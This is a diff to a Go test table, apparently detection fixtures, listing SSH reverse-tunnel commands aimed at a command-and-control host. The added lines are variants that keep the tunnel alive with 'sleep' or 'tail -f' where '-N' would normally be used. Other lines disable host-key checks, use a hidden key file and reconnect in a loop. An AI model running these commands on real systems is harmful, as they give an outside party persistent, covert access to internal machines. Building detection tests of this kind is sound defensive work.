@@ -202,6 +202,10 @@ func tunnelCases() []carrierCase {
 		"ssh -i /var/tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -gNR 8080:localhost:4444 " + h,
 		"until ssh -N -w any:any -o Tunnel=point-to-point root@" + c2Host + "; do sleep 20; done",
 		"nohup ssh -o ServerAliveInterval=60 -o ServerAliveCountMax=3 -NR 2022:localhost:22 " + h + " >/dev/null 2>&1 &",
+		// a remote command that only waits keeps the forward open as -N does
+		"ssh -o StrictHostKeyChecking=no -R 22001:127.0.0.1:22 " + h + " \"sleep 2h\"",
+		"ssh -R 9000:localhost:22 " + h + " 'while true; do sleep 60; done'",
+		"ssh -T -R 2200:localhost:22 " + h + " tail -f /dev/null",
 	}
 	var out []carrierCase
 	for i, c := range cmds {
